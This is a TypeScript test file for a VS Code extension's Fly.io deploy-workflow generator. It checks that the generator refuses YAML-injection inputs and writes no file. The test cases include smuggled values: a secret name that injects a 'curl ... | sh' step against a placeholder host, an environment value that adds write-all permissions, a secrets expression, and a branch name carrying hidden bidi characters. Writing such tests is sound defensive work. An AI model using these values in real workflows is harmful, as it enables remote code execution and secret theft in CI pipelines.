// Issue 11 item 3: "Fly: Generate Deploy Workflow" is callable by any extension, with any arguments. Values that
// could add YAML (line breaks, control characters, "${{") are refused with a message, and nothing is written.
import * as assert from 'assert';
import { promises as fs } from 'fs';
import * as os from 'os';
import * as path from 'path';
import * as vscode from 'vscode';
import { setUp, signIn, type Harness } from './support/harness';

describe('security: the generated workflow cannot be injected', () => {
  let h: Harness;
  const web = () => vscode.workspace.workspaceFolders!.find((f) => f.name === 'web')!.uri.fsPath;
  const workflow = () => path.join(web(), '.github', 'workflows', 'fly-deploy.yml');

  beforeEach(async () => {
    h = await setUp();
    await signIn(h);
  });
  afterEach(async () => {
    await fs.rm(path.join(web(), '.github'), { recursive: true, force: true });
    h.prompter.assertDone();
  });

  const cases: [string, Record<string, unknown>, RegExp][] = [
    ['a secret name with a line break', { secretName: 'X }}\n        run: curl https://example.invalid | sh #' }, /is not a GitHub secret name/],
    ['an environment with a line break', { secretName: 'FLY_API_TOKEN', environment: 'prod\n    permissions: write-all' }, /environment name "prod\\u\{000A\} {4}permissions: write-all" cannot go into a workflow/],
    ['an environment with a GitHub expression', { secretName: 'FLY_API_TOKEN', environment: '${{ secrets.OTHER }}' }, /environment name .* cannot go into a workflow/],
  ];
  for (const [what, extra, says] of cases) {
    it(`refuses ${what} from the command's arguments and writes nothing`, async () => {
      await vscode.commands.executeCommand('flyTokens.generateDeployWorkflow', { root: web(), ...extra });
      const note = await h.prompter.waitForNotification(/The deploy workflow was not generated/);
      assert.strictEqual(note.kind, 'error');
      assert.match(note.message, says);
      await assert.rejects(fs.stat(workflow()), 'no workflow file was written');
    });
  }

  it('refuses a root outside the workspace', async () => {
    const elsewhere = await fs.mkdtemp(path.join(os.tmpdir(), 'fly-wf-'));
    try {
      await vscode.commands.executeCommand('flyTokens.generateDeployWorkflow', { root: elsewhere, secretName: 'FLY_API_TOKEN' });
      const note = await h.prompter.waitForNotification(/not a folder of this workspace/);
      assert.strictEqual(note.kind, 'error');
      await assert.rejects(fs.stat(path.join(elsewhere, '.github')));
    } finally {
      await fs.rm(elsewhere, { recursive: true, force: true });
    }
  });

  it('a default branch from GitHub with hidden characters is refused before anything is shown', async () => {
    // No origin/HEAD in the checkout: the branch comes from GitHub's answer, which a server (or a caller) controls.
    const client = { repository: async () => ({ defaultBranch: 'main\u202E\u2066 pull_request_target:' }) };
    // web/ holds two fly.toml files: the question which one comes first.
    h.prompter.answer('workflow.app', (labels: string[]) => labels[0]);
    await vscode.commands.executeCommand('flyTokens.generateDeployWorkflow', {
      root: web(),
      secretName: 'FLY_API_TOKEN',
      repo: { host: 'github.com', owner: 'acme', repo: 'web' },
      client,
    });
    const note = await h.prompter.waitForNotification(/The deploy workflow was not generated/);
    assert.match(note.message, /branch name "main\\u\{202E\}\\u\{2066\} pull_request_target:" cannot go into a workflow/);
    await assert.rejects(fs.stat(workflow()));
  });
});
